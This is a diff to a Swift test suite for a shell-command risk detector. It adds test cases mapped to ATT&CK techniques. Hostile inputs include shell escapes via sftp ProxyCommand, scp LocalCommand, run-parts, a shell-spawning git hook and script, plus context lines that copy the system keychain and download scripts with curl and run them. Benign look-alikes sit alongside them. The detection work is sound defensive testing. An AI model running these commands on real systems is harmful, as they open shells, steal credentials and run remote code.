@@ -156,6 +156,13 @@ import Testing
         Case(rule: "system keychain copied", command: "cp /Library/Keychains/System.keychain /tmp/", dialect: .sh, technique: "T1555.001"),
         Case(rule: "download saved with -sO, then run", command: "curl -sO https://example.com/atomic.sh; bash atomic.sh", dialect: .sh, atLeast: .critical, technique: "T1105"),
         Case(rule: "download saved with -fsSLo FILE, then run", command: "curl -fsSLo /tmp/i.sh https://example.com/i.sh; sh /tmp/i.sh", dialect: .sh, atLeast: .critical, technique: "T1105"),
+        // Programs that run a local command or a system program for you.
+        Case(rule: "sftp ProxyCommand starting a shell", command: "sftp -o ProxyCommand='/bin/sh -i' x", dialect: .sh, technique: "T1059.004"),
+        Case(rule: "scp LocalCommand, joined spelling", command: "scp -oLocalCommand=/bin/bash -oPermitLocalCommand=yes a b:", dialect: .sh, technique: "T1059.004"),
+        Case(rule: "run-parts on a system program folder", command: "run-parts --new-session --regex '^sh$' /bin", dialect: .sh, technique: "T1059.004"),
+        Case(rule: "run-parts on /usr/bin/", command: "sudo run-parts --regex '^bash$' /usr/bin/", dialect: .sh, technique: "T1059.004"),
+        Case(rule: "git hook that starts a shell", command: "echo 'exec /bin/sh 0<&2 1>&2' >.git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git commit --allow-empty -m x", dialect: .sh, technique: "T1059.004"),
+        Case(rule: "script with its recording thrown away", command: "script -q /dev/null", dialect: .sh, technique: "T1059.004"),
         Case(rule: "double extension", command: "echo 'id' > /tmp/report.pdf.sh; chmod +x /tmp/report.pdf.sh; /tmp/report.pdf.sh", dialect: .sh, technique: "T1036.007"),
     ]
 
@@ -220,6 +227,11 @@ import Testing
         Case(rule: "macOS accounts listed", command: "sysadminctl -list", dialect: .sh, atLeast: .medium),
         Case(rule: "a page fetched quietly", command: "curl -sS https://example.com/x", dialect: .sh, atLeast: .low),
         Case(rule: "a download saved, not run", command: "curl -sO https://example.com/notes.txt", dialect: .sh, atLeast: .medium),
+        Case(rule: "ssh through a bastion", command: #"ssh -o ProxyCommand="ssh -W %h:%p bastion" host"#, dialect: .sh, atLeast: .medium),
+        Case(rule: "cron's daily folder run", command: "run-parts /etc/cron.daily", dialect: .sh, atLeast: .medium),
+        Case(rule: "an ordinary git hook", command: "echo 'npm test' > .git/hooks/pre-commit", dialect: .sh, atLeast: .medium),
+        Case(rule: "a session recorded", command: "script session.log", dialect: .sh, atLeast: .low),
+        Case(rule: "BSD script running a command", command: "script -q /dev/null ./build.sh", dialect: .sh, atLeast: .medium),
         Case(rule: "an EXIT trap", command: "trap 'rm -f /tmp/lock' EXIT", atLeast: .medium),
         Case(rule: "a DEBUG trap that does not copy commands", command: "trap 'echo step' DEBUG", atLeast: .low),
         Case(rule: "the pod's namespace read", command: "cat /run/secrets/kubernetes.io/serviceaccount/namespace", dialect: .sh, atLeast: .low),
